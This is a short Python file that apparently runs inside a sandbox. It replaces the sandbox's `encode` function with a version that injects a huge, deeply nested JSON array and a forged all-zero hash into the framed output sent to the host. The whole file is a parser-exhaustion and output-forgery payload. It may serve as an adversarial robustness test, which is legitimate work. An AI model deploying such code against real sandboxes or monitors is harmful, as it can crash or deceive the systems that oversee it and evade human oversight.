import json

from tracemill_sandbox.inside import program

honest = program.encode


def dense(answer, nonce):
    frame = honest(answer, nonce)
    said = json.loads(frame[len(nonce) + 8 :])
    deep = "[" * 60 + "]" * 60
    values = "[" + ",".join([deep] * (1 << 13)) + "]"
    binding = '{"line_number":1,"name":"x","coverage":"whole","value_hash":"%s","value":%s}' % ("0" * 64, values)
    said["bindings"] = ["HERE"]
    data = json.dumps(said).replace('"HERE"', binding).encode()
    return nonce + len(data).to_bytes(8, "big") + data


program.encode = dense
